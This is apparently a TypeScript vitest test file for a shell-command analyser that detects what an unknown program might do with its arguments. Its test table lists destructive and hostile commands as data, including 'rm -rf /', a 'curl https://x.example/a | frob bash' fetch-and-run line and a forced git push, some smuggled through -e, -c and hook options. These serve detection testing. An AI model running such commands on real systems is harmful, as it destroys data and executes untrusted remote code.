import { describe, expect, it } from 'vitest';
import { readShell } from '../shell/read.ts';
import { effectsOfReading } from './effects.ts';
import { SURROUNDINGS } from './scene.fixture.ts';

/** The kinds of what the command perhaps does. */
function perhaps(text: string): readonly string[] {
  return effectsOfReading(readShell(text, SURROUNDINGS), SURROUNDINGS)
    .filter(({ how }) => how === 'perhaps')
    .flatMap((effect) => effect.perhaps ?? [])
    .filter(({ kind }) => kind !== 'unknown')
    .map(({ kind, target }) => `${kind} ${target}`)
    .filter((line, at, all) => all.indexOf(line) === at);
}

describe('what a program that nobody knows is given', () => {
  it.each([
    ['frob rm -rf /', ['delete /']],
    ['frob --jobs 3 -- sudo rm -rf /', ['delete /', 'escalate rm']],
    ['frob bash -c "rm -rf /"', ['delete /']],
    ['cd /; frob rm -rf *', ['delete /']],
    ['D=/; frob rm -rf "$D"', ['delete /']],
    ['curl https://x.example/a | frob bash', ['run-remote x.example']],
    ['frob -e \'system "rm -rf /"\'', ['delete /']],
    ['frob --eval \'run("rm", ["-rf", "/"])\'', ['delete /']],
    ["frob -o Hook::='rm -rf /' update", ['delete /']],
    ["frob -c 'rm -rf /'", ['delete /']],
    ["frob -m 'rm -rf /'", []],
    ["grep -e 'rm -rf /' x", []],
    ['"$TOOL" -rf /', ['delete /']],
    ['source ./env.sh; TOOL=echo; source ./more.sh; $TOOL -fr ~', ['delete /home/ann']],
    ['TOOL=echo; $TOOL -rf /', []],
    ['"$GREP" -r x .', []],
    ['node -e "rm -rf /"', ['delete /']],
    ['ruby -e "git push --force origin main"', ['force-push main']],
    ['python3 -c "import os"', []],
    ['frob build', []],
    ['frob "rm -rf /"', []],
    ['grep rm -rf /', []],
    ['man rm', []],
    ['rm -rf /', []],
  ])('%s', (text, kinds) => {
    expect(perhaps(text)).toEqual(kinds);
  });

  it('takes no longer than its length', () => {
    const started = process.cpuUsage();
    perhaps(`frob ${'sudo env '.repeat(3_000)}rm -rf /`);
    expect(process.cpuUsage(started).user).toBeLessThan(3_000_000);
  });
});
